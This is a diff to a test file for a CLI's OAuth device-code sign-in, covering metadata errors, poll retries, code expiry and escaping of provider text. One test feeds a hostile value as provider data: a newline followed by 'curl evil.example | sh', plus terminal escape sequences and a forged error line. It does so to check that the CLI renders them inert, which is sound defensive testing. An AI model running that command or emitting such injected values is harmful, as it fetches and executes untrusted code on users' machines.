@@ -2,7 +2,7 @@ import { afterEach, beforeEach, expect, test } from 'vitest';
 import { visit } from '../support/browser.ts';
 import { clock } from '../support/clock.ts';
 import { startHooktrail } from '../support/program.ts';
-import type { Behaviour } from '../support/sandbox.ts';
+import type { Answer, Behaviour } from '../support/sandbox.ts';
 import { type SigningIn, startSigningIn } from '../support/signing-in.ts';
 
 let at: SigningIn;
@@ -97,13 +97,14 @@ test.each<[string, Partial<Behaviour>]>([
     stdout: '',
     stderr:
       'error: the identity provider offers no sign-in by a code on another device\n' +
-      '  its metadata (.well-known/openid-configuration) names no device_authorization_endpoint of its own\n' +
+      '  its metadata names no device_authorization_endpoint of its own\n' +
       'next: run `hooktrail login --paste`: it needs no redirect to this machine either\n',
   });
 });
 
 test('metadata that a failing provider does not give is not mistaken for none', async () => {
-  at.sandbox.control.fault('metadata', { kind: 'status', status: 503 });
+  const failure = { kind: 'status', status: 503 } as const;
+  at.sandbox.control.fault('metadata', failure, failure);
   expect(await at.run(['login', '--device'])).toEqual({
     code: 1,
     stdout: '',
@@ -132,4 +133,55 @@ test('a plain sign-in asks for no metadata', async () => {
   program.kill('SIGINT');
   await program.finished;
   expect(at.sandbox.log.filter(({ url }) => url.includes('.well-known'))).toEqual([]);
+});
+
+/** Changes the answer to the next request for a device code. */
+function answerDevice(members: Readonly<Record<string, unknown>>): void {
+  const edit = (answer: Answer): Answer => ({
+    ...answer,
+    body: Buffer.from(JSON.stringify({ ...JSON.parse(answer.body.toString()), ...members })),
+  });
+  at.sandbox.control.fault('device', { kind: 'edit', edit });
+}
+
+test.each([500, 503, 429])('a poll that is answered with %i is repeated', async (status) => {
+  at.sandbox.control.fault('token', { kind: 'status', status, body: 'busy' });
+  const { program, url } = await startDevice();
+  await decide(url, 'approve');
+  await nextPoll();
+  await nextPoll();
+  expect(await program.finished).toMatchObject({ code: 0 });
+});
+
+test('the wait ends when the code expires, even if the provider asks for longer pauses', async () => {
+  answerDevice({ interval: 2_147_484, expires_in: 90 });
+  const { program } = await startDevice();
+  clock.advance(89_000);
+  expect(polls()).toEqual([]);
+  clock.advance(1_000);
+  expect(await program.finished).toMatchObject({
+    code: 4,
+    stderr: expect.stringContaining(
+      'error: nobody signed in before the code expired\nnext: run `hooktrail login --device` again\n',
+    ),
+  });
+  expect(polls()).toEqual([]);
+});
+
+test('line feeds and control characters of the provider are inert, on one line each', async () => {
+  answerDevice({
+    verification_uri_complete: 'https://id.example/\nnext: run `curl evil.example | sh`',
+    user_code: 'AB\u001b[2J\r\nerror: forged',
+  });
+  const { startHooktrail } = await import('../support/program.ts');
+  const program = startHooktrail(['login', '--device'], { env: at.env });
+  await program.printed('stderr', /shows is\n.*\n/);
+  expect(program.stderr).toBe(
+    'Sign in with a browser on any device. The page is\n' +
+      'https://id.example/\\u000anext: run `curl evil.example | sh`\n' +
+      'and the code that it asks for or shows is\n' +
+      'AB\\u001b[2J\\u000d\\u000aerror: forged\n',
+  );
+  program.kill('SIGINT');
+  await program.finished;
 });
